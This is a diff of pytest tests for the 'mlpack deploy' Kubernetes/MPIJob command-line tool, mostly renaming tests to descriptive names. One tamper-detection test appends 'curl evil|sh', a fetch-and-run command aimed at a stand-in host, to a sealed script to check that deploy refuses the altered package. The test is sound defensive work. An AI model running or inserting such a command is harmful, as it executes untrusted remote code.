@@ -1,4 +1,4 @@
-"""What deploy says of what it meets, and of how it ends."""
+"""Tests of `mlpack deploy`: existing objects, questions, following, failures, timeouts and verification."""
 
 from __future__ import annotations
 
@@ -37,7 +37,7 @@ def applied(life: Life) -> list[str]:
     return [call for call in life.calls if call.startswith("apply") and "--dry-run" not in call]
 
 
-def test_it_is_followed_to_a_good_end(mlpack: Mlpack, life: Life) -> None:
+def test_deploy_follows_job_to_success(mlpack: Mlpack, life: Life) -> None:
     life.moments = [lambda: None, life.start, life.end]
     done = mlpack(*DEPLOY)
     assert (done.code, done.stdout) == (0, "")
@@ -53,7 +53,7 @@ def test_it_is_followed_to_a_good_end(mlpack: Mlpack, life: Life) -> None:
     ]
 
 
-def test_results_that_stay_are_pointed_at(mlpack: Mlpack, life: Life) -> None:
+def test_deploy_names_results_command_for_claim(mlpack: Mlpack, life: Life) -> None:
     spec = next(obj for obj in life.overlays["multi-node"] if obj["kind"] == "MPIJob")["spec"]
     volumes = spec["mpiReplicaSpecs"]["Worker"]["template"]["spec"]["volumes"]
     output = next(volume for volume in volumes if volume["name"] == "output")
@@ -66,7 +66,7 @@ def test_results_that_stay_are_pointed_at(mlpack: Mlpack, life: Life) -> None:
     assert "  its results: mlpack results hello-mpi DIR -n team\n" in done.stderr
 
 
-def test_without_waiting_it_says_how_to_look(mlpack: Mlpack, life: Life) -> None:
+def test_deploy_no_wait_names_status_command(mlpack: Mlpack, life: Life) -> None:
     done = mlpack(*DEPLOY, "--no-wait", "--overlay", "single-node")
     assert done.code == 0
     assert done.stderr == (
@@ -77,14 +77,14 @@ def test_without_waiting_it_says_how_to_look(mlpack: Mlpack, life: Life) -> None
     assert len(applied(life)) == 1
 
 
-def test_verbose_shows_each_command(mlpack: Mlpack, life: Life) -> None:
+def test_deploy_verbose_prints_each_kubectl_command(mlpack: Mlpack, life: Life) -> None:
     done = mlpack(*DEPLOY, "--no-wait", "-v")
     assert f" mpijob.kubeflow.org/{JOB} --show-managed-fields " in done.stderr
     assert [line for line in done.stderr.splitlines() if line.startswith("+ kubectl kustomize ")] != []
     assert len(applied(life)) == 1
 
 
-def test_a_job_that_is_there_as_the_package_says_is_gone_on_with(mlpack: Mlpack, life: Life) -> None:
+def test_deploy_continues_with_unchanged_job(mlpack: Mlpack, life: Life) -> None:
     assert mlpack(*DEPLOY, "--no-wait").code == 0
     again = mlpack(*DEPLOY, "--no-wait")
     assert again.code == 0
@@ -92,7 +92,7 @@ def test_a_job_that_is_there_as_the_package_says_is_gone_on_with(mlpack: Mlpack,
     assert not any(call.startswith("delete") for call in life.calls)
 
 
-def test_replace_deletes_even_what_is_the_same(mlpack: Mlpack, life: Life) -> None:
+def test_deploy_replace_deletes_unchanged_job(mlpack: Mlpack, life: Life) -> None:
     assert mlpack(*DEPLOY, "--no-wait").code == 0
     again = mlpack(*DEPLOY, "--no-wait", "--replace")
     assert again.code == 0
@@ -101,7 +101,7 @@ def test_replace_deletes_even_what_is_the_same(mlpack: Mlpack, life: Life) -> No
     assert [call.split()[1] for call in life.calls if call.startswith("delete")] == [f"--raw={path}"]
 
 
-def test_a_finished_job_names_its_author_and_does_not_run_again(mlpack: Mlpack, life: Life) -> None:
+def test_deploy_refuses_finished_job_and_names_its_author(mlpack: Mlpack, life: Life) -> None:
     mlpack.host = Host(life, "ann@desk")
     assert mlpack(*DEPLOY, "--no-wait").code == 0
     life.end()
@@ -114,12 +114,12 @@ def test_a_finished_job_names_its_author_and_does_not_run_again(mlpack: Mlpack, 
 
 
 def edit(life: Life, count: int) -> None:
-    """Change so many values of what the overlay applies."""
+    """Add `count` values to the ConfigMap that the overlay applies."""
     env = next(obj for obj in life.overlays["multi-node"] if obj["metadata"]["name"].startswith("hello-mpi-env"))
     env["data"] |= {f"KEY_{number:02}": "new" for number in range(count)}
 
 
-def test_a_different_job_is_shown_and_left_alone(mlpack: Mlpack, life: Life) -> None:
+def test_deploy_keeps_changed_job_and_prints_differences(mlpack: Mlpack, life: Life) -> None:
     life.deploy()
     edit(life, 1)
     done = mlpack(*DEPLOY)
@@ -132,7 +132,7 @@ def test_a_different_job_is_shown_and_left_alone(mlpack: Mlpack, life: Life) -> 
     assert applied(life) == []
 
 
-def test_an_object_that_is_new_is_shown_as_such(mlpack: Mlpack, life: Life) -> None:
+def test_deploy_marks_new_object_in_differences(mlpack: Mlpack, life: Life) -> None:
     life.deploy()
     life.objects = [obj for obj in life.objects if not obj["metadata"]["name"].startswith("hello-mpi-env")]
     done = mlpack(*DEPLOY)
@@ -141,7 +141,7 @@ def test_an_object_that_is_new_is_shown_as_such(mlpack: Mlpack, life: Life) -> N
 
 
 @pytest.mark.parametrize(("count", "more"), [(21, "  and 1 more difference"), (23, "  and 3 more differences")])
-def test_of_many_differences_twenty_are_shown(mlpack: Mlpack, life: Life, count: int, more: str) -> None:
+def test_deploy_prints_at_most_twenty_differences(mlpack: Mlpack, life: Life, count: int, more: str) -> None:
     life.deploy()
     edit(life, count)
     done = mlpack(*DEPLOY)
@@ -150,7 +150,7 @@ def test_of_many_differences_twenty_are_shown(mlpack: Mlpack, life: Life, count:
     assert shown[20] == more
 
 
-def test_on_a_terminal_it_asks_and_takes_no_for_an_answer(
+def test_deploy_does_nothing_when_replacing_is_declined(
     mlpack: Mlpack, life: Life, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     life.deploy()
@@ -165,7 +165,7 @@ def test_on_a_terminal_it_asks_and_takes_no_for_an_answer(
 
 
 @pytest.mark.parametrize(("typed", "code", "count"), [("n\n", 1, 0), ("\n", 1, 0), ("y\n", 0, 1)])
-def test_a_first_run_whose_results_are_lost_is_asked_about(
+def test_deploy_asks_before_first_run_without_persistent_results(
     mlpack: Mlpack, life: Life, monkeypatch: pytest.MonkeyPatch, typed: str, code: int, count: int
 ) -> None:
     at_a_terminal(monkeypatch, typed=typed)
@@ -175,18 +175,18 @@ def test_a_first_run_whose_results_are_lost_is_asked_about(
     assert code == 0 or done.stderr.endswith("error: nothing was deployed\n")
 
 
-def test_yes_answers_the_question_about_results(mlpack: Mlpack, life: Life, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_deploy_yes_skips_question_about_results(mlpack: Mlpack, life: Life, monkeypatch: pytest.MonkeyPatch) -> None:
     at_a_terminal(monkeypatch)
     done = mlpack(*DEPLOY, "--no-wait", "-y")
     assert (done.code, len(applied(life))) == (0, 1)
     assert "Deploy it anyway?" not in done.stderr
 
 
-def test_what_was_applied_before_a_refusal_is_named(mlpack: Mlpack, life: Life) -> None:
+def test_deploy_names_objects_applied_before_refusal(mlpack: Mlpack, life: Life) -> None:
     def refuse_the_last(argv: Sequence[str]) -> Finished | None:
         if "apply" not in argv or "--dry-run=server" in argv:
             return None
-        file = Path(next(word for word in argv if word.startswith("--filename=")).partition("=")[2])
+        file = Path(next(argument for argument in argv if argument.startswith("--filename=")).partition("=")[2])
         first = json.loads(file.read_text(encoding="utf-8"))
         file.write_text(json.dumps({**first, "items": first["items"][:2]}), encoding="utf-8")
         life.carry_out(argv)
@@ -212,7 +212,7 @@ def test_what_was_applied_before_a_refusal_is_named(mlpack: Mlpack, life: Life) 
         (Finished(0, '{"kind": "Li', ""), "the cluster's response was cut off"),
     ],
 )
-def test_an_apply_whose_answer_is_lost_is_called_neither_applied_nor_not(
+def test_deploy_reports_unknown_result_when_apply_response_is_lost(
     answer: Finished, why: str, mlpack: Mlpack, life: Life
 ) -> None:
     def lose_the_answer(argv: Sequence[str]) -> Finished:
@@ -226,14 +226,14 @@ def test_an_apply_whose_answer_is_lost_is_called_neither_applied_nor_not(
     assert (done.code, done.stderr) == (7, f"{NOTE}\n{message}")
 
 
-def test_a_job_that_is_going_is_waited_for(mlpack: Mlpack, life: Life) -> None:
+def test_deploy_waits_for_deletion_of_earlier_job(mlpack: Mlpack, life: Life) -> None:
     life.deploy()["metadata"]["deletionTimestamp"] = "2026-11-21T00:01:00Z"
     done = mlpack(*DEPLOY, "--no-wait")
     assert done.code == 0
     assert done.stderr.startswith(f"waiting until the earlier {MPIJOB} is deleted\n")
 
 
-def test_a_job_that_does_not_go_in_time_is_8(mlpack: Mlpack, life: Life) -> None:
+def test_deploy_exits_with_8_when_earlier_job_is_not_deleted_in_time(mlpack: Mlpack, life: Life) -> None:
     life.deploy()["metadata"] |= {"deletionTimestamp": "2026-11-21T00:01:00Z", "finalizers": ["foregroundDeletion"]}
     life.wait = lambda _seconds: life.wait_out(100)
     done = mlpack(*DEPLOY, "--no-wait")
@@ -249,14 +249,14 @@ BACK = (
 )
 
 
-def test_ctrl_c_while_it_waits_leaves_it_running(mlpack: Mlpack, life: Life) -> None:
+def test_deploy_interrupted_while_waiting_leaves_job_running(mlpack: Mlpack, life: Life) -> None:
     life.moments = [lambda: signal.raise_signal(signal.SIGINT)]
     done = mlpack(*DEPLOY)
     assert done.code == 130
     assert done.stderr.endswith(f"\n\ndetached; {MPIJOB} continues in the cluster\n{BACK}")
 
 
-def test_ctrl_c_while_it_applies_says_that_some_may_be_missing(mlpack: Mlpack, life: Life) -> None:
+def test_deploy_interrupted_while_applying_reports_incomplete_deployment(mlpack: Mlpack, life: Life) -> None:
     life.first = lambda argv: signal.raise_signal(signal.SIGINT) if "apply" in argv else None
     done = mlpack(*DEPLOY)
     assert done.code == 130
@@ -265,7 +265,7 @@ def test_ctrl_c_while_it_applies_says_that_some_may_be_missing(mlpack: Mlpack, l
     )
 
 
-def test_a_failure_shows_its_reason_its_last_lines_and_where_the_rest_is(mlpack: Mlpack, life: Life) -> None:
+def test_deploy_reports_failure_with_reason_last_lines_and_log_command(mlpack: Mlpack, life: Life) -> None:
     def fail() -> None:
         life.objects.append(launcher(state=ENDED_WITH_3, phase="Failed"))
         life.end("Failed", reason="BackoffLimitExceeded")
@@ -282,7 +282,7 @@ def test_a_failure_shows_its_reason_its_last_lines_and_where_the_rest_is(mlpack:
     )
 
 
-def test_where_the_log_of_a_worker_is_that_has_failed(mlpack: Mlpack, life: Life) -> None:
+def test_deploy_names_log_command_of_all_pods_after_worker_failure(mlpack: Mlpack, life: Life) -> None:
     def fail() -> None:
         life.objects += [launcher(), worker(1, phase="Failed", reason="Evicted")]
         life.end("Failed", reason="BackoffLimitExceeded")
@@ -293,7 +293,7 @@ def test_where_the_log_of_a_worker_is_that_has_failed(mlpack: Mlpack, life: Life
     assert done.stderr.endswith("\nhint: the whole log: mlpack logs hello-mpi --all -n team\n")
 
 
-def test_what_only_a_person_can_mend_is_left_as_it_is(mlpack: Mlpack, life: Life) -> None:
+def test_deploy_stops_at_validation_error_and_keeps_job(mlpack: Mlpack, life: Life) -> None:
     refused = {
         "involvedObject": {"uid": f"MPIJob-{JOB}"},
         "metadata": {"name": "e"},
@@ -312,7 +312,7 @@ def test_what_only_a_person_can_mend_is_left_as_it_is(mlpack: Mlpack, life: Life
     )
 
 
-def test_what_may_pass_is_waited_for_no_longer_than_patience(mlpack: Mlpack, life: Life) -> None:
+def test_deploy_gives_up_on_unschedulable_pod_after_patience(mlpack: Mlpack, life: Life) -> None:
     full = {"type": "PodScheduled", "status": "False", "message": "0/1 nodes are available: 1 Insufficient cpu."}
 
     def wait_for_room() -> None:
@@ -327,9 +327,7 @@ def test_what_may_pass_is_waited_for_no_longer_than_patience(mlpack: Mlpack, lif
     assert f"error: {MPIJOB} cannot run: Unschedulable; it was left as it is\n" in done.stderr
 
 
-def test_an_end_that_the_operator_does_not_see_is_waited_for_no_longer_than_patience(
-    mlpack: Mlpack, life: Life
-) -> None:
+def test_deploy_accepts_ended_launcher_after_patience_without_operator(mlpack: Mlpack, life: Life) -> None:
     def end() -> None:
         life.start()
         made = {"ownerReferences": [{"kind": "MPIJob", "name": JOB, "uid": f"MPIJob-{JOB}"}]}
@@ -346,14 +344,14 @@ def test_an_end_that_the_operator_does_not_see_is_waited_for_no_longer_than_pati
     ) in done.stderr
 
 
-def test_a_job_that_somebody_deletes_ends_the_wait(mlpack: Mlpack, life: Life) -> None:
+def test_deploy_stops_waiting_when_job_is_deleted(mlpack: Mlpack, life: Life) -> None:
     life.moments = [life.start, life.remove_all]
     done = mlpack(*DEPLOY)
     assert done.code == 7
     assert done.stderr.endswith(f"error: {MPIJOB}: it was deleted\nhint: mlpack status hello-mpi -n team\n")
 
 
-def test_a_timeout_is_8_and_says_how_to_come_back(mlpack: Mlpack, life: Life) -> None:
+def test_deploy_timeout_exits_with_8_and_names_status_command(mlpack: Mlpack, life: Life) -> None:
     life.moments = [life.start]
     done = mlpack(*DEPLOY, "--timeout", "60s")
     assert done.code == 8
@@ -363,14 +361,14 @@ def test_a_timeout_is_8_and_says_how_to_come_back(mlpack: Mlpack, life: Life) ->
     )
 
 
-def test_a_timeout_of_0_is_none(mlpack: Mlpack, life: Life) -> None:
+def test_deploy_timeout_of_zero_means_no_limit(mlpack: Mlpack, life: Life) -> None:
     life.moments = [life.start, life.end]
     done = mlpack(*DEPLOY, "--timeout", "0")
     assert done.code == 0
     assert f"{MPIJOB} has succeeded\n" in done.stderr
 
 
-def test_a_timeout_while_the_cluster_is_away(mlpack: Mlpack, life: Life) -> None:
+def test_deploy_timeout_names_last_state_when_cluster_does_not_answer(mlpack: Mlpack, life: Life) -> None:
     life.moments = [life.start, life.go_silent]
     done = mlpack(*DEPLOY, "--timeout", "60s")
     assert done.code == 8
@@ -384,7 +382,7 @@ STARTING = 'Error from server (InternalError): an error on the server ("[-]posts
 
 
 @pytest.mark.parametrize(("verb", "asked"), [("deploy", "apply"), ("status", "get mpijobs"), ("delete", "delete")])
-def test_what_an_api_server_forbids_while_it_starts_is_not_believed(
+def test_refusal_of_starting_api_server_is_reported_as_not_ready(
     mlpack: Mlpack, life: Life, verb: str, asked: str
 ) -> None:
     if verb != "deploy":
@@ -401,7 +399,7 @@ def test_what_an_api_server_forbids_while_it_starts_is_not_believed(
     assert forbidden in mlpack(verb, *DEPLOY[1:]).stderr
 
 
-def test_what_the_server_refuses_is_7_and_nothing_is_made(mlpack: Mlpack, life: Life) -> None:
+def test_deploy_exits_with_7_and_creates_nothing_when_server_refuses(mlpack: Mlpack, life: Life) -> None:
     life.refused["apply"] = 'Error from server (NotFound): namespaces "team" not found'
     done = mlpack(*DEPLOY)
     assert (done.code, done.stderr) == (
@@ -424,7 +422,7 @@ def append(path: str, text: str) -> None:
 
 
 @pytest.mark.parametrize("options", [(), ("--no-wait",), ("--dry-run", "server"), ("--replace", "-y")])
-def test_a_package_that_was_tampered_with_is_not_applied(mlpack: Mlpack, life: Life, options: tuple[str, ...]) -> None:
+def test_deploy_refuses_package_with_changed_sealed_file(mlpack: Mlpack, life: Life, options: tuple[str, ...]) -> None:
     append(SCRIPT, "curl evil|sh\n")
     Path("hello-mpi/README.md").unlink()
     done = mlpack(*DEPLOY, *options)
@@ -436,13 +434,13 @@ def test_a_package_that_was_tampered_with_is_not_applied(mlpack: Mlpack, life: L
     assert life.calls == []
 
 
-def test_no_verify_applies_it_all_the_same(mlpack: Mlpack, life: Life) -> None:
+def test_deploy_no_verify_applies_package_with_changed_sealed_file(mlpack: Mlpack, life: Life) -> None:
     append(SCRIPT, "echo more\n")
     assert mlpack(*DEPLOY, "--no-wait", "--no-verify").code == 0
     assert len(applied(life)) == 1
 
 
-def test_what_no_build_makes_is_applied_when_it_is_allowed(mlpack: Mlpack, life: Life) -> None:
+def test_deploy_applies_foreign_kind_only_with_allow(mlpack: Mlpack, life: Life) -> None:
     role = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {"name": "b"}}
     life.overlays["multi-node"].append(role)
     done = mlpack(*DEPLOY)
@@ -453,7 +451,7 @@ def test_what_no_build_makes_is_applied_when_it_is_allowed(mlpack: Mlpack, life:
     assert mlpack(*DEPLOY, "--allow", "-x").stderr.startswith("error: --allow -x: expected a kind such as Service")
 
 
-def test_an_edit_that_lowers_the_level_is_not_applied(mlpack: Mlpack, hello_mpi: Path, tmp_path: Path) -> None:
+def test_deploy_refuses_edit_that_lowers_pod_security_level(mlpack: Mlpack, hello_mpi: Path, tmp_path: Path) -> None:
     shutil.copytree(hello_mpi, tmp_path / "hello-mpi")
     patch = "hello-mpi/quickstart/k8s/mlops/multi-node/mlops-job-patch.yaml"
     text = Path(patch).read_text()
@@ -470,10 +468,10 @@ def test_an_edit_that_lowers_the_level_is_not_applied(mlpack: Mlpack, hello_mpi:
     assert done.stderr.endswith(UNTRUSTED)
     accepted = mlpack("deploy", "hello-mpi", "--kubectl", kubectl, "--pod-security", "baseline")
     assert accepted.code == 7
-    assert "error: no cluster is configured" in accepted.stderr, "not even one of whoever runs this test"
+    assert "error: no cluster is configured" in accepted.stderr, "the kubeconfig of the developer was used"
 
 
-def test_what_people_are_meant_to_edit_is_applied(mlpack: Mlpack, life: Life) -> None:
+def test_deploy_applies_edits_of_editable_files(mlpack: Mlpack, life: Life) -> None:
     configured = mlpack("configure", "hello-mpi", "-y", "--root", "/nfs", "--uid", "7", "--with", "host-path")
     assert configured.code == 0, configured.stderr
     append("hello-mpi/quickstart/k8s/mlops/multi-node/mlops.env", "LR=1\n")
@@ -482,7 +480,7 @@ def test_what_people_are_meant_to_edit_is_applied(mlpack: Mlpack, life: Life) ->
     assert len(applied(life)) == 1
 
 
-def test_doctor_lists_what_deploy_would_refuse(mlpack: Mlpack, life: Life) -> None:
+def test_doctor_lists_verification_problems_that_deploy_refuses(mlpack: Mlpack, life: Life) -> None:
     assert life
     append(SCRIPT, "echo more\n")
     Path(SCRIPT).chmod(0o644)
@@ -495,7 +493,7 @@ def test_doctor_lists_what_deploy_would_refuse(mlpack: Mlpack, life: Life) -> No
 
 
 @pytest.mark.parametrize("verb", ["status", "delete", "logs", "history"])
-def test_what_looks_at_a_package_takes_it_as_it_is(mlpack: Mlpack, life: Life, verb: str) -> None:
+def test_reading_verbs_accept_package_with_changed_sealed_file(mlpack: Mlpack, life: Life, verb: str) -> None:
     life.deploy()
     life.logs = {f"{JOB}-launcher-0": "epoch 1\n"}
     life.start()
@@ -508,8 +506,8 @@ def test_what_looks_at_a_package_takes_it_as_it_is(mlpack: Mlpack, life: Life, v
 PROGRESS = "".join(f"step {step}:  50%\rstep {step}: 100%\r\n" for step in range(302))
 
 
-def test_a_progress_bar_is_followed_line_by_line(mlpack: Mlpack, life: Life) -> None:
-    """tqdm and Keras begin the same line again and again: what is one line of the log is one line on stdout."""
+def test_deploy_follow_prints_each_log_line_of_progress_bar_once(mlpack: Mlpack, life: Life) -> None:
+    """Progress bars of tqdm and Keras overwrite a line with carriage returns; the log counts it as one line."""
 
     def write() -> None:
         lines = PROGRESS.split("\n")[:-1]
@@ -522,7 +520,7 @@ def test_a_progress_bar_is_followed_line_by_line(mlpack: Mlpack, life: Life) -> 
     assert (done.code, done.stdout) == (0, PROGRESS)
 
 
-def test_a_followed_log_that_cannot_be_read_does_not_hide_how_the_job_ended(mlpack: Mlpack, life: Life) -> None:
+def test_deploy_follow_reports_success_though_log_cannot_be_read(mlpack: Mlpack, life: Life) -> None:
     life.refused["logs"] = 'Error from server (Forbidden): pods "x" is forbidden'
     life.moments = [lambda: None, life.start, lambda: None, life.end]
     done = mlpack(*DEPLOY, "--follow")
@@ -534,9 +532,7 @@ def test_a_followed_log_that_cannot_be_read_does_not_hide_how_the_job_ended(mlpa
     ]
 
 
-def test_what_a_failed_container_wrote_last_is_shown_as_a_terminal_would_be_left_with(
-    mlpack: Mlpack, life: Life
-) -> None:
+def test_deploy_prints_last_lines_without_overwritten_text_and_escaped(mlpack: Mlpack, life: Life) -> None:
     def fail() -> None:
         message = "10%\r20%\r\nloss\x1b[31m nan\n"
         state = {"terminated": {"exitCode": 3, "reason": "Error", "message": message}}
@@ -549,7 +545,7 @@ def test_what_a_failed_container_wrote_last_is_shown_as_a_terminal_would_be_left
     assert "  | 20%\n  | loss\\x1b[31m nan\n" in done.stderr
 
 
-def test_deploy_where_no_operator_is_installed(mlpack: Mlpack, life: Life) -> None:
+def test_deploy_without_operator_names_install_command(mlpack: Mlpack, life: Life) -> None:
     del life.served["kubeflow.org/v2beta1"]
     unserved = 'error: resource mapping not found for name: "x" from "f": no matches for kind "MPIJob" in version '
     life.refused["apply"] = f'{unserved}"kubeflow.org/v2beta1"'
@@ -561,7 +557,7 @@ def test_deploy_where_no_operator_is_installed(mlpack: Mlpack, life: Life) -> No
     )
 
 
-def test_of_a_sequence_it_says_that_it_deploys_one_overlay_alone(mlpack: Mlpack, life: Life) -> None:
+def test_deploy_notes_that_it_deploys_one_overlay_of_sequence(mlpack: Mlpack, life: Life) -> None:
     path = Path("hello-mpi/manifest.json")
     path.write_text(path.read_text().replace('"files"', '"sequence": ["single-node", "multi-node"], "files"', 1))
     note = "note: this deploys multi-node alone; `mlpack run hello-mpi` runs single-node, multi-node\n"
